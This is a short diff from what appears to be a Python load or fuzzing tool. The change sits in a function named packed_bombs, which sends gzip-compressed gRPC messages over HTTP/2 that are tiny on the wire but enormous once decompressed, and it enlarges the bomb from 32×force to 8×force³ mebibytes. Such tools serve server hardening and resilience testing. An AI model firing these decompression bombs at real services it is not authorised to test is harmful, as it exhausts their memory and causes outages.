@@ -269,7 +269,7 @@ def _bomb(mebibytes: int) -> bytes:
 
 def packed_bombs(target: Target, force: int) -> int:
     """Small messages that are huge when they are unpacked."""
-    body = http2.framed(_bomb(32 * force), flag=1)
+    body = http2.framed(_bomb(8 * force**3), flag=1)
     block = _headers(target, _LIST, (b"grpc-encoding", b"gzip"))
     with Connection(target.address) as connection:
         connection.start()
